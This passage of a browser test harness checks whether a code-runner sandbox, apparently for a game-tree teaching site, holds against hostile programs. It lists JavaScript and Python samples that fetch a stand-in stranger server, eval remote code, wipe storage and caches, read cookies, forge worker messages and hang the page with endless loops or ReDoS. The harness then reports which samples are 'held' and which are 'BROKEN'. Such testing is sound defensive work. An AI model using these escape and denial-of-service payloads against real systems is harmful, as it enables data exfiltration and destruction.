      `const trap = new Proxy({}, { get() { throw evil; }, ownKeys() { throw evil; }, getPrototypeOf() { throw evil; } }); const odd = { toString() { throw evil; }, toJSON() { return odd; }, valueOf() { return trap; }, get length() { return 1e9; } }; for (const value of [trap, odd, [odd, 1], { value: trap }]) try { search(value, true); } catch {}`
    ),
    written(
      "an error for every message",
      `self.addEventListener('error', (event) => event.stopImmediatePropagation(), true); Error.prepareStackTrace = () => { throw evil; }; Promise.reject(trap = { get message() { throw evil; } }); throw { toString() { throw evil; } };`
    ),
    written(
      "texts of all of the memory",
      `let text = 'x'; for (;;) { text += text; globalThis.all = [globalThis.all, text]; }`
    ),
    written(
      "a loop of small tasks",
      `const again = () => { queueMicrotask(again); }; Map.prototype.keys = () => { throw 0; }; again();`,
      { endless: true }
    ),
    written(
      "a wait without an end",
      `Atomics.wait(new Int32Array(new SharedArrayBuffer(8)), 0, 0);`,
      { endless: true }
    ),
    written(
      "a wait without an end, in memory of its own",
      `Atomics.wait(new Int32Array(new WebAssembly.Memory({ initial: 1, maximum: 1, shared: true }).buffer), 0, 0);`,
      { endless: true }
    ),
    written(
      "a loop without an end, where nothing counts",
      `Map.prototype.keys = () => { throw 0; }; 'x'.repeat(60).match(/^(x+)+y$/);`,
      { endless: true }
    ),
    written(
      "workers that never end",
      `const W = reach('Worker'); const address = ${blob("for (;;);")}; for (let at = 0; at < 4; at++) new W(address); Map.prototype.keys = () => { throw 0; };`,
      { endless: true }
    )
  ];
}
var inPython = (what, text, more = {}) => ({
  ...{ what, written: "python", ...more },
  text: `${PYTHON_HELP}
${text}
${python("")}
`
});
var PYTHON_HELP = `
def reach(*path):
    import js
    it = getattr(js, "kept", None) or js
    for name in path:
        it = getattr(it, name)
    return it

def tries(*all):
    for what in all:
        try:
            print("came as far as", what())
        except BaseException as error:
            print("failed:", type(error), error)
`;
var LATE = `
import js
def outlive(promise):
    js.Map.prototype.keys = None
    def end(*said):
        reach("postMessage")(js.JSON.parse('{"kind":"done","report":{"trace":"","output":"over","notes":{"step":[],"node":[],"line":[],"name":[],"value":[],"names":[]},"problem":null,"searches":0,"root":"","result":""}}'))
    promise.then(end, end)
    return promise
`;
function pythonAttacks({ stranger, site: site2 }) {
  const late = (what, text) => inPython(what, `${LATE}
tries(lambda: outlive(${text}))`);
  return [
    inPython("nothing at all", ""),
    late("a request by js", `reach("fetch")("${stranger}python")`),
    late("a request to the site by js", `reach("fetch")("${site2}attacked-by-python")`),
    late("the caches by js", `reach("caches").delete("${BAIT}")`),
    late(
      "the module that is loaded by an address",
      `reach("eval")("import('${stranger}module.js')")`
    ),
    inPython(
      "a database by js",
      `tries(lambda: reach("indexedDB").deleteDatabase("${BAIT}"), lambda: reach("indexedDB", "open")("${BAIT}"))`
    ),
    inPython(
      "texts that JavaScript runs",
      `tries(lambda: reach("eval")("fetch('${stranger}eval')"), lambda: reach("Function")("fetch('${stranger}function')")(), lambda: reach("setTimeout")("fetch('${stranger}later')", 0))`
    ),
    inPython(
      "texts that Python runs",
      `tries(lambda: eval('reach("XMLHttpRequest").new()'), lambda: exec('import js\\njs.fetch("${stranger}exec")'), lambda: exec("raise SystemExit"), lambda: __import__("js").fetch("${stranger}import"))`
    ),
    inPython(
      "a request that is waited for",
      `def sync():
    request = reach("XMLHttpRequest").new()
    request.open("GET", "${stranger}python-sync", False)
    request.send()
    return request.status
tries(sync)`
    ),
    inPython(
      "scripts and workers",
      `tries(lambda: reach("importScripts")("${stranger}script.js"), lambda: reach("Worker").new("${site2}service-worker.js"), lambda: reach("SharedWorker").new("${site2}service-worker.js"), lambda: reach("WebSocket").new("${stranger}".replace("http", "ws")))`
    ),
    inPython(
      "other pages, the window and the storage of this one",
      `tries(lambda: reach("BroadcastChannel").new("${BAIT}").postMessage("${EVIL}"), lambda: reach("localStorage").clear(), lambda: reach("parent").postMessage("refused", "*"), lambda: reach("open")("${stranger}window"), lambda: reach("navigator").sendBeacon("${stranger}beacon"), lambda: reach("document").cookie)`
    ),
    inPython(
      "the tracer, by its module",
      `import _prunus_host as host
tries(lambda: host.leave(7, 7, "", None), lambda: host.enter(99, None, None, ""), lambda: host.root("[" * 1000), lambda: host.result("x" * 1000000), lambda: host.next(-1, None), lambda: host.note("x" * 1000000, "y"), lambda: host.at(-1), lambda: host.specs.constructor("return fetch('${stranger}host')")())`
    ),
    inPython(
      "a false report",
      `import js
tries(lambda: reach("postMessage")(js.JSON.parse('{"kind":"done","report":{"trace":7}}')), lambda: reach("postMessage")(js.JSON.parse('{"kind":"broken","line":-1,"message":"<b>"}')), lambda: reach("postMessage")(None))`
    ),
    inPython("a flood", `import js
while True:
    reach("postMessage")(7)`),
    inPython(
      "fields of all objects",
      `import js
tries(lambda: setattr(js.Object.prototype, "kind", "done"), lambda: setattr(js.Array.prototype, "push", None), lambda: setattr(js.JSON, "stringify", None))`
    ),
    inPython(
      "a loop that catches all",
      `while True:
    try:
        while True: pass
    except BaseException: pass`,
      { endless: true }
    )
  ];
}

// tests/browsers/support/baits.ts
import { createSocket } from "node:dgram";
import { createServer as createServer3 } from "node:http";
async function openStranger() {
  const asked = [];
  const server = createServer3((request, response) => {
    asked.push(request.url ?? "");
    const headers = { "access-control-allow-origin": "*", "content-type": "text/javascript" };
    response.writeHead(200, headers).end("");
  });
  server.on("connection", () => asked.push("a connection"));
  await new Promise((resolve) => {
    server.listen(0, "127.0.0.1", resolve);
  });
  const { port } = server.address();
  const packets = createSocket("udp4", () => asked.push("a packet"));
  await new Promise((resolve) => {
    packets.bind(port, "127.0.0.1", resolve);
  });
  return {
    address: `http://127.0.0.1:${port}/`,
    asked,
    close: () => {
      server.closeAllConnections();
      server.close();
      packets.close();
    }
  };
}
async function layBaits(bait) {
  await new Promise((resolve, reject) => {
    const request = indexedDB.open(bait);
    request.onupgradeneeded = () => request.result.createObjectStore(bait).put("a game", bait);
    request.onerror = () => reject(new Error("no database"));
    request.onsuccess = () => {
      request.result.close();
      resolve();
    };
  });
  const cache = await caches.open(bait);
  const script = document.querySelector("script[type=module][src]").src;
  await cache.put(script, new Response("the script"));
  await cache.put(new URL(bait, location.href), new Response("a page"));
  localStorage.setItem(bait, "a setting");
  document.cookie = `${bait}=a visitor`;
  const heard = [];
  Object.assign(window, { heard });
  const listen = ({
    BroadcastChannel
  }) => {
    new BroadcastChannel(bait).onmessage = ({ data }) => heard.push(String(data));
  };
  listen(window);
  const other = document.createElement("iframe");
  other.id = "another-page";
  other.hidden = true;
  document.body.append(other);
  listen(other.contentWindow);
}
async function baitsIn(bait) {
  const databases = (await indexedDB.databases()).flatMap(({ name }) => name ?? []).sort();
  const record = await new Promise((resolve) => {
    const request = indexedDB.open(bait);
    request.onsuccess = () => {
      const { result } = request;
      if (!result.objectStoreNames.contains(bait)) return resolve("no store");
      const got = result.transaction(bait).objectStore(bait).get(bait);
      got.onsuccess = () => {
        result.close();
        resolve(String(got.result));
      };
    };
  });
  const cache = await caches.open(bait);
  const entries = [];
  for (const request of await cache.keys()) {
    const text = await (await cache.match(request)).text();
    entries.push(`${new URL(request.url).pathname}: ${text}`);
  }
  return {
    ...{ record, databases, entries },
    cached: await (await caches.match(new URL(bait, location.href)))?.text() ?? "none",
    stored: localStorage.getItem(bait) ?? "none",
    cookie: document.cookie,
    heard: window.heard,
    title: document.title
  };
}

// ../../../tmp/wall/expect-shim.mjs
var poll = (f, { timeout = 6e4, interval = 50 } = {}) => ({ toBe: async (want) => {
  const t = Date.now();
  let got;
  for (; ; ) {
    try {
      got = await f();
    } catch (e) {
      got = e;
    }
    if (got === want) return;
    if (Date.now() - t > timeout) throw new Error("poll: " + String(got).slice(0, 300));
    await new Promise((r) => setTimeout(r, interval));
  }
} });
var expect = { poll };

// tests/browsers/support/program-desk.ts
var PATIENCE = { timeout: 12e4, interval: 50 };
async function openPrograms(page, site2, first) {
  await page.goto(`${site2}index.html#v1&game=textbook&tree=((3,12,8),(2,4,6),(14,5,2))`);
  const isOpen = async () => page.run(() => {
    const find = (css, words = "", root2 = document) => {
      for (const element of root2.querySelectorAll("*")) {
        if (element.matches(css) && element.textContent.includes(words)) return element;
        const { shadowRoot } = element;
        const inner = shadowRoot === null ? null : find(css, words, shadowRoot);
        if (inner !== null) return inner;
      }
      return null;
    };
    Object.assign(window, { find });
    const desk2 = find("prunus-program-desk");
    if (desk2?.hasUpdated === true) return true;
    const opens = find(".opens-inspector");
    if (opens?.getAttribute("aria-pressed") === "false") opens.click();
    find("[role=tab]", "Program")?.click();
    return false;
  });
  await expect.poll(isOpen, PATIENCE).toBe(true);
  await page.run((before) => {
    const { postMessage } = MessagePort.prototype;
    MessagePort.prototype.postMessage = function(message, ...given) {
      const { script } = message;
      const all = script === void 0 ? message : { ...message, script: before + script };
      postMessage.call(this, all, ...given);
    };
  }, first);
}
async function runProgram(page, written2, text, words = /./) {
  await begin(page, written2, text);
  return outcome(page, words);
}
async function stopProgram(page, written2, text) {
  await begin(page, written2, text);
  const isRunning = () => page.run(() => Number(desk().note) >= 1 || desk().isOver);
  await expect.poll(isRunning, PATIENCE).toBe(true);
  await page.run(() => desk().stop());
  return outcome(page);
}
async function begin(page, written2, text) {
  await page.run(
    async (given) => {
      const { find } = window;
      const element = find("prunus-program-desk");
      const root2 = element.shadowRoot;
      Object.assign(window, {
        desk: () => {
          const outcome2 = root2.querySelector(".outcome").textContent.replace(/\s+/g, " ").trim();
          const stop = root2.querySelector(".stop");
          const isOver = stop === null && outcome2 !== "";
          const note = /(\d+) s\./.exec(root2.querySelector(".tools .note")?.textContent ?? "");
          return { isOver, stop: () => stop?.click(), note: note?.[1] ?? null, said: outcome2 };
        }
      });
      Object.assign(element, { ...given, template: null, said: null, saidAgents: null });
      Object.assign(element, { report: null, diagnosed: null });
      await element.updateComplete;
      root2.querySelector(".run").click();
    },
    { written: written2, text }
  );
}
async function outcome(page, words = /./) {
  let said = "";
  const isOver = async () => {
    const now = await page.run(() => desk());
    said = now.said;
    return now.isOver && words.test(said) ? "over" : said;
  };
  await expect.poll(isOver, PATIENCE).toBe("over");
  return said;
}

// ../../../tmp/wall/attack.ts
var [folder, engines, only] = process.argv.slice(2);
var site = await BuiltSite.copyOf(folder);
for (const engine of engines.split(",")) {
  const stranger = await openStranger();
  const b = await (engine === "webkit" ? launchWebKit() : launchByPuppeteer(engine));
  const page = await b.open();
  const began = Date.now();
  await openPrograms(page, site.url, KEEPER);
  await page.run(layBaits, BAIT);
  for (const [w, t] of [["javascript", javascript("")], ["python", python("")]]) {
    const t0 = Date.now();
    console.log(engine, w, (await runProgram(page, w, t, /Right:/)).slice(0, 120), Date.now() - t0, "ms");
  }
  const before = JSON.stringify(await page.run(baitsIn, BAIT));
  console.log(before);
  const targets = { stranger: stranger.address, site: site.url };
  for (const a of [...javascriptAttacks(targets), ...pythonAttacks(targets)]) {
    if (only && !new RegExp(only).test(a.what)) continue;
    const t0 = Date.now();
    let said = "";
    try {
      said = await (a.endless ? stopProgram(page, a.written, a.text) : runProgram(page, a.written, a.text));
    } catch (e) {
      said = "THROWN " + String(e).slice(0, 300);
    }
    const now = JSON.stringify(await page.run(baitsIn, BAIT));
    const hits = stranger.asked.splice(0);
    const missed = site.missed.splice(0);
    console.log(now === before && hits.length === 0 && !missed.some((m) => m.includes("attack")) ? "held" : "BROKEN", a.written[0], a.what, "|", said.slice(0, 220).replace(/^.*What it printed/, ""), "|", Date.now() - t0, "ms", hits.join(), missed.join(), now === before ? "" : now);
  }
  for (const [w, t] of [["javascript", javascript("")], ["python", python("")]]) console.log(engine, w, (await runProgram(page, w, t, /Right:/)).slice(0, 120));
  console.log("iframes", await page.run(() => document.querySelectorAll("iframe").length), "problems", page.problems.length, JSON.stringify(page.problems.slice(0, 3)), Date.now() - began, "ms");
  await page.close();
  await b.close();
  stranger.close();
}
await site.remove();
process.exit(0);
